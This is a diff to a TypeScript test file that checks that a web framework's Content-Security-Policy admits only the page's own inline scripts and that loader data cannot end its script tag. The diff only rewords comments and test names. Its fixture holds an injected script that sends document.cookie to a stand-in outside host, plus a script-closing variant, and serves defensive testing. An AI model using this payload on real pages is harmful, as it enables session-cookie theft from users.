@@ -9,10 +9,10 @@ import * as root from "#web/root.tsx";
 const planted = "fetch('https://elsewhere.example/?'+document.cookie)";
 const hostile = `<p>Text</p><script>${planted}</script><script nonce="">${planted}</script><script nonce="guess">${planted}</script>`;
 
-/** A screen whose text nobody has cleaned, in the real root and by the real renderer. */
+/** Renders a screen with unsanitized text in the real root by the real renderer. */
 const screen = {
   loader: () => ({ hostile: `</script>${hostile}` }),
-  // biome-ignore lint/security/noDangerouslySetInnerHtml: that is what is tested
+  // biome-ignore lint/security/noDangerouslySetInnerHtml: the test's subject
   default: () => createElement("div", { dangerouslySetInnerHTML: { __html: hostile } }),
 };
 
@@ -28,7 +28,7 @@ afterAll(() => app.close());
 
 const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
 
-test("the policy lets through the page's own inline scripts and none that was planted in it", async () => {
+test("the policy allows the page's own inline scripts and blocks injected ones", async () => {
   const { statusCode, body, headers } = await app.inject("/x");
   expect(statusCode).toBe(200);
   const policy = String(headers["content-security-policy"]);
@@ -36,7 +36,7 @@ test("the policy lets through the page's own inline scripts and none that was pl
     ([, code = ""]) => code,
   );
   const [foreign, own] = [inline.filter((code) => code === planted), inline.filter((code) => code !== planted)];
-  // Theme, scroll position, the framework's context, the loaders' data and the module that starts all.
+  // Theme, scroll position, the framework's context, the loaders' data and the entry module.
   expect([foreign.length, own.length >= 4]).toEqual([3, true]);
   for (const code of own) expect(policy, code.slice(0, 60)).toContain(hashOf(code));
   expect(policy).not.toContain(hashOf(planted));
@@ -46,7 +46,7 @@ test("the policy lets through the page's own inline scripts and none that was pl
 
 test("a loader's data cannot end the script that holds it", async () => {
   const { body } = await app.inject("/x");
-  // Three planted in the screen's own HTML.
+  // Three injected into the screen's own HTML.
   expect(body.split(planted)).toHaveLength(1 + 3 + 3);
   expect(body.split(`<script>${planted}`)).toHaveLength(2);
 });
